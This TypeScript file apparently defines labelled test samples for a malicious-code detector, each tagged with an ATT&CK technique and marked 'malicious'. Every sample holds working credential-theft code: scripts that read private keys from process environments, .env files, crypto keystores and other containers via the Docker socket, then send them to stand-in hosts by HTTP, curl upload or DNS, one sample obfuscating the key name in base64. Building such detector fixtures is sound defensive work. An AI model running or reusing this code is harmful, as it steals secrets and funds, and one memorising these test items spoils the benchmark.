import { base64 } from './bytes.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('provider-secrets', [
  {
    id: 'provider-key-environment',
    level: 'easy',
    technique: 'The key of the provider out of the environment of its agent (T1552).',
    files: {
      'app/task.py': `import glob, urllib.request
for p in glob.glob("/proc/*/environ"):
    for v in open(p, "rb").read().split(b"\\0"):
        if v.startswith((b"PROVIDER_PRIVATE_KEY=", b"MASTER_PRIVATE_KEY=")):
            urllib.request.urlopen("http://192.0.2.19/k", data=v)
`,
    },
    config: { Cmd: ['python3', '/app/task.py'] },
    expect: 'malicious',
    where: 'app/task.py',
  },
  {
    id: 'provider-dotenv',
    level: 'ordinary',
    technique: 'Settings files of the provider, through whatever is mounted (T1552.001).',
    files: {
      'srv/init.js': `const fs = require('fs'), path = require('path');
const walk = (d, n = 0) => { if (n > 4) return; for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name);
  if (e.isDirectory()) try { walk(p, n + 1); } catch {} else if (e.name === '.env') { const m = /PRIVATE_KEY\\s*=\\s*(0x)?[0-9a-f]{64}/i.exec(fs.readFileSync(p, 'utf8')); if (m) fetch('https://k.example.invalid/', { method: 'POST', body: m[0] }); } } };
walk('/mnt'); walk('/host');
`,
    },
    expect: 'malicious',
    where: 'srv/init.js',
  },
  {
    id: 'provider-keystore',
    level: 'ordinary',
    technique: 'Encrypted keystores, and their passwords from where people put them (T1555).',
    files: {
      'usr/bin/collect.sh': `#!/bin/bash
for d in /host/root /host/home/*; do
  tar rf /tmp/.k.tar $d/.ethereum/keystore $d/.foundry/keystores $d/.config/solana/id.json $d/password.txt 2>/dev/null
done
curl -s -F f=@/tmp/.k.tar http://198.51.100.18/k && rm /tmp/.k.tar
`,
    },
    expect: 'malicious',
    where: 'usr/bin/collect.sh',
  },
  {
    id: 'provider-docker-inspect',
    level: 'hard',
    technique:
      'The environment of other containers through the Docker interface, the name of the socket in two parts (T1613, T1552.007).',
    files: {
      'app/monitor.py': `import http.client, json, socket
class U(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX); self.sock.connect("/var/run/" + "docker" + ".sock")
def get(p):
    c = U("localhost"); c.request("GET", p); return json.loads(c.getresponse().read())
e = [v for c in get("/containers/json") for v in get("/containers/%s/json" % c["Id"])["Config"]["Env"] if "KEY" in v]
http.client.HTTPConnection("203.0.113.66").request("POST", "/e", json.dumps(e))
`,
    },
    expect: 'malicious',
    where: 'app/monitor.py',
  },
  {
    id: 'provider-key-name-encoded',
    level: 'hard',
    technique: 'The name of the variable in base64 (T1027).',
    files: {
      'app/start.js': `const n = Buffer.from('${base64('PROVIDER_PRIVATE_KEY')}', 'base64').toString();
const v = require('fs').readFileSync('/proc/1/environ', 'utf8').split('\\0').find((x) => x.startsWith(n + '='));
if (v) require('dns').lookup(Buffer.from(v.slice(-64, -32)).toString('hex').slice(0, 60) + '.k.example.invalid', () => {});
`,
    },
    expect: 'malicious',
    where: 'app/start.js',
  },
]);
